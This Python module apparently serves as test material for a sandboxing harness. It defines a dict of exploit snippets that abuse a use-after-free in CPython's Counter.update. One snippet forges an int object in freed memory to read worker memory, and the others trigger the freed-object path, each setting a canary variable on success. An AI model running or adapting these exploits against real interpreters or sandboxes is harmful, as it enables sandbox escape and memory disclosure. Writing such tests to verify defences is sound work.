"""C code of Counter.update adds 1 to a count that it only borrows from the counter: `__add__` frees it.

int's own `__add__` is asked next, with a forged int of as many digits as one likes: the count is the worker's memory.
"""

ADVISORY = ""
GUARANTEE = "no-reflection"

_FORGED = """
from collections import Counter
DIGITS = 400
def word(n):
    return n.to_bytes(8, "little")
INT = int(repr(int.from_bytes).rsplit("0x")[1].rstrip(">"), 16)
class A:
    __slots__ = ("a", "b", "c", "d", "e", "f", "g", "h")
    def __add__(self, other):
        c.clear()
        del self
        for _ in range(3):
            held.append(bytearray(fake))
        return NotImplemented
held = []
for size in (DIGITS, DIGITS << 3):  # up to 3.11, from 3.12 on
    fake = bytes(16) + word(1000) + word(INT) + word(size) + b"\\xff" * 55
    c = Counter()
    c["k"] = A()
    try:
        c.update(iter("k"))
        if c["k"].bit_length() > 1000:
            LOOT = CANARY
            break
    except TypeError:
        pass
"""
_FREED = """
from collections import Counter
ended = []
def opened():
    try:
        yield
    finally:
        ended.append(1)
class A:
    def __init__(self):
        self.held = opened()
        next(self.held)
    def __add__(self, other):
        global LOOT
        c.clear()
        del self
        if ended:
            LOOT = CANARY
        return 1
c = Counter()
c["k"] = A()
{count}
"""
ATTACKS = {
    "forged_int": _FORGED,
    "update": _FREED.format(count="c.update('k')"),
    "update_of_a_derived_class": _FREED.format(count="c.update('k')").replace(
        "c = Counter()", "class C(Counter):\n    pass\nc = C()"
    ),
}
